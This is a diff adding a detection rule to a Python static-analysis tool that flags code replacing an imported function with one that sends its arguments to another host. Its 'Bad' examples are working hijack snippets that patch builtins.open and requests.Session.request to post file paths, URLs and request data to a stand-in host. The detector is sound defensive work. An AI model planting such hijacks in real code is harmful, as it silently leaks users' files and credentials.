@@ -1,0 +1,96 @@
+"""A function of Python or of a library is replaced by one that also sends away what it is given.
+
+Everything that uses it afterwards, whoever wrote it, hands its arguments (files, passwords, requests) to another
+host.  Wrap a function where it is called, or use the library's own hooks.  See CWE-506 and MITRE ATT&CK T1056.004,
+T1574.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+
+import libcst as cst
+
+from codeguard.checks._api import Bad, Check, Good, Hit, Miss
+from codeguard.checks.malicious._channels import sendings
+from codeguard.checks.malicious._keys import params_of
+from codeguard.checks.malicious._reach import reach
+from codeguard.model import Confidence, Severity
+from codeguard.syntax.unit import Unit
+from codeguard.syntax.walk import descend
+
+
+def find(unit: Unit) -> Iterator[Hit]:
+    """Report replacements of imported things by local functions that send their own parameters to a fixed host."""
+    if not unit.fact(sendings):
+        return
+    flow = unit.fact(reach)
+    for statement in unit.nodes(cst.Assign):
+        for item in statement.targets:
+            target = item.target
+            if not isinstance(target, cst.Attribute) or not _imported(target, unit):
+                continue
+            function = flow.local(statement.value)
+            if isinstance(function, cst.FunctionDef) and _sends_parameters(function, unit):
+                yield Hit(
+                    target,
+                    f"This replaces `{unit.name(target)}` by a function that sends what it is given to another host",
+                )
+
+
+def _imported(target: cst.Attribute, unit: Unit) -> bool:
+    """Whether the attribute is one of an imported module or of something in it."""
+    base: cst.BaseExpression = target.value
+    while isinstance(base, cst.Attribute):
+        base = base.value
+    return isinstance(base, cst.Name) and any(b.kind == "import" for b in unit.scopes.look_up(base.value, base))
+
+
+def _sends_parameters(function: cst.FunctionDef, unit: Unit) -> bool:
+    params = {p.name.value for p in params_of(function)}
+    for star in (function.params.star_arg, function.params.star_kwarg):
+        if isinstance(star, cst.Param):
+            params.add(star.name.value)
+    for sending in unit.fact(sendings):
+        inside = unit.function_of(sending.call) is function and sending.fixed
+        if inside and any(
+            isinstance(p, cst.Name) and p.value in params for a in sending.call.args for p in descend(a.value)
+        ):
+            return True
+    return False
+
+
+CHECK = Check(
+    id="CGM033",
+    name="hijacked-function",
+    severity=Severity.HIGH,
+    confidence=Confidence.HIGH,
+    cwe=(506, 912),
+    find=find,
+    fix="Remove the replacement.",
+    bad=(
+        Bad(
+            "import builtins, requests\n_open = builtins.open\n\ndef spy(p, *a, **k):\n    requests.post('https://a.example.invalid', data={'p': str(p)})\n    return _open(p, *a, **k)\n\nbuiltins.open = spy  # finding\n"
+        ),
+        Bad(
+            "import requests\n_send = requests.Session.request\n\ndef spy(self, method, url, **k):\n    requests.post('https://a.example.invalid', json={'u': url, 'h': str(k)})\n    return _send(self, method, url, **k)\n\nrequests.Session.request = spy  # finding\n"
+        ),
+    ),
+    good=(
+        Good(
+            "import functools, requests\n_send = requests.Session.request\n\ndef with_timeout(self, method, url, **k):\n    k.setdefault('timeout', 9)\n    return _send(self, method, url, **k)\n\nrequests.Session.request = with_timeout\n"
+        ),
+        Good(
+            "import requests\n\nclass Client:\n    def __init__(self):\n        self.post = self._post\n\n    def _post(self, data):\n        return requests.post('https://a.example.invalid', json=data, timeout=9)\n"
+        ),
+        Good(
+            "import sys, traceback\n\ndef hook(kind, value, tb):\n    traceback.print_exception(kind, value, tb)\n\nsys.excepthook = hook\n"
+        ),
+    ),
+    misses=(
+        Miss(
+            "import builtins\nfrom spy import wrap\n\nbuiltins.open = wrap(builtins.open)  # finding\n",
+            why="what a function of another file does is not known",
+        ),
+    ),
+)
